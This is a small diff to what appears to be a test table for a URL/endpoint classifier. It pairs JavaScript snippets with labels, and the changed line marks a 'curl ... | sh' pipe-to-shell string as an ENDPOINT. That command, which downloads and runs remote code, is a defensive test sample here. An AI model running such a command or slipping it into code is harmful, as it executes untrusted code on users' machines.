@@ -30,7 +30,7 @@ STANDING = {
     "a link to a document": ("const DOCS_URL = 'https://a.invalid/e'", PROSE),
     "in a message": ("throw new RangeError('https://a.invalid/why')", PROSE),
     "on the console": ("console.warn('https://a.invalid/why', 1)", PROSE),
-    "a command": ("exports.x = 'curl -s https://a.invalid/i | sh'", ""),
+    "a command": ("exports.x = 'curl -s https://a.invalid/i | sh'", ENDPOINT),
     "a link of a page": ("a.href = 'https://a.invalid/x'", PROSE),
 }
 
